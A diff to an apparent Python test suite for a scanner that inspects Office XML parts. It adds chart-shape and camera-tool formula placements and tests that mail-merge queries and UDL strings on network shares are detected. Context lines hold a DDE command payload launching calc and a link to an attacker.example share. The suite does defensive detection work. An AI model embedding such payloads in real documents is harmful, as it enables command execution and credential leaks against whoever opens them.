@@ -1481,6 +1481,8 @@ _XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing"
 _X14 = "http://schemas.microsoft.com/office/spreadsheetml/2009/9/main"
 _SML = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
 _VML_X = "urn:schemas-microsoft-com:office:excel"
+_CDR = "http://schemas.openxmlformats.org/drawingml/2006/chartDrawing"
+_A14 = "http://schemas.microsoft.com/office/drawing/2010/main"
 _DDE = "cmd|&apos; /C calc&apos;!A0"
 _SHARE = "&apos;\\\\attacker.example\\s\\[tools.xlsm]Sheet1&apos;!A1"
 _FORMULA_PLACES = {
@@ -1489,6 +1491,10 @@ _FORMULA_PLACES = {
     "control-range": f'<formControlPr xmlns="{_X14}" objectType="List" fmlaRange="{{}}"/>',
     "control-link": f'<formControlPr xmlns="{_X14}" objectType="CheckBox" fmlaLink="{{}}"/>',
     "sheet-control": f'<worksheet xmlns="{_SML}"><controlPr linkedCell="{{}}"/></worksheet>',
+    # red team 103: a chart's user shape, Excel 2010's camera tool
+    "chart-user-shape": f'<c:userShapes xmlns:c="{_CDR}"><c:sp textlink="{{}}"/></c:userShapes>',
+    "camera-tool": f'<xdr:wsDr xmlns:xdr="{_XDR}"><a14:cameraTool xmlns:a14="{_A14}" '
+    'cellRange="{}"/></xdr:wsDr>',
     "vml-link": f'<xml xmlns:x="{_VML_X}"><x:ClientData><x:FmlaLink>{{}}</x:FmlaLink>'
     "</x:ClientData></xml>",
     # as Excel writes its VML: an unclosed <br>, read leniently
@@ -1566,3 +1572,20 @@ def test_webservice_passed_by_name_in_a_workbook_is_a_fetch() -> None:
     )
     assert read_part(sheet).fetching_formula
     assert not read_part(sheet.replace(b"_xlfn.WEBSERVICE", b"_xlfn.XLOOKUP")).fetching_formula
+
+
+@pytest.mark.parametrize(
+    ("element", "found"),
+    [("<w:query w:val=\"SELECT * FROM `\\\\srv\\s\\data.xlsx`.`Sheet1$`\"/>", True),
+     ("<w:query w:val=\"SELECT * FROM `C:\\Users\\me\\data.xlsx`.`Sheet1$`\"/>", False),
+     ("<w:odso><w:udl w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source="
+      "\\\\srv\\s\\data.xlsx\"/></w:odso>", True)],
+    ids=["query-on-a-share", "query-local", "udl-on-a-share"],
+)  # fmt: skip
+def test_a_mail_merges_query_and_udl_are_read(element: str, found: bool) -> None:
+    """Word runs the merge's query as the document opens (red team 103: only the connection
+    string was read)."""
+    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
+    part = f'<w:settings xmlns:w="{w}"><w:mailMerge>{element}</w:mailMerge></w:settings>'
+    sources = read_part(part.encode()).sources
+    assert any(source.kind == "merge" and "srv" in source.target for source in sources) is found
